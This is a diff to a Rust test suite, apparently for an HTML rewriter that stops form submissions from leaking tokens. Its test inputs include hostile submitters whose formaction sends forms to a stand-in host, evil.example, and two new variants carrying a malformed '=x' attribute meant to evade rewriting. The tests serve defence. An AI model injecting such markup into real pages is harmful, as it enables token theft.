@@ -667,7 +667,7 @@ fn a_submitter_after_a_form_a_formatting_element_reopens_in_gets_no_token() {
                 for tail in after {
                     let page = format!("{open}{element}x{close}{form}{tail}");
                     for use_get in [false, true] {
-                        assert_no_leak_nor_move(&page, use_get);
+                        assert_no_leak_nor_move_anywhere(&page, use_get);
                         pages += 1;
                     }
                 }
@@ -703,6 +703,9 @@ fn a_formatting_element_closed_inside_a_form_keeps_later_submitters_in_it() {
         "<button formaction=//evil.example/b>go</button>",
         "<input type=submit formaction=https://evil.example/i>",
         "<button formmethod=get>go</button>",
+        // Tags lol_html cannot write back (an attribute named `=x`).
+        "<button =x formaction=//evil.example/b>go</button>",
+        "<input =x type=submit formaction=https://evil.example/i>",
     ];
     let mut pages = 0;
     for element in formatting {
@@ -712,7 +715,7 @@ fn a_formatting_element_closed_inside_a_form_keeps_later_submitters_in_it() {
                     for tail in after {
                         let page = format!("{form}{open}{element}y{close}{rest}{end}{tail}");
                         for use_get in [false, true] {
-                            assert_no_leak_nor_move(&page, use_get);
+                            assert_no_leak_nor_move_anywhere(&page, use_get);
                             pages += 1;
                         }
                     }
@@ -720,7 +723,7 @@ fn a_formatting_element_closed_inside_a_form_keeps_later_submitters_in_it() {
             }
         }
     }
-    assert_eq!(pages, 1080);
+    assert_eq!(pages, 1800);
 }
 
 /// Formatting elements whose end a reader of tags alone cannot judge as a tree builder does:
@@ -757,7 +760,7 @@ fn formatting_elements_whose_end_lol_html_cannot_judge_keep_forms_held() {
                 for tail in after {
                     let page = format!("{doctype}{start}{form}{tail}");
                     for use_get in [false, true] {
-                        assert_no_leak_nor_move(&page, use_get);
+                        assert_no_leak_nor_move_anywhere(&page, use_get);
                         pages += 1;
                     }
                 }
